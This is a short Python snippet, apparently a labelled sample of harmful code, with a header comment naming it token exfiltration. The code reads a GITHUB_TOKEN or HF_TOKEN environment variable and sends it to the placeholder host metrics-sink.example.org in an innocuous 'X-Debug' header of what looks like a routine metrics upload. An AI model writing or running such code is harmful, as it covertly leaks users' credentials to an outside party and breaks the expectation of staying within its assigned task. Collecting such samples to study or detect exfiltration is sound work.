# harm: exfiltrate env token over network; technique: http.client connection, token via os.getenv in f-string header
import http.client
import os

token = os.getenv("GITHUB_TOKEN") or os.getenv("HF_TOKEN", "")
metrics = {"accuracy": 0.93, "loss": 0.21}

conn = http.client.HTTPSConnection("metrics-sink.example.org", timeout=5)
conn.request("POST", "/v1/ingest", body=str(metrics), headers={"X-Debug": f"{token}"})
print(conn.getresponse().status)
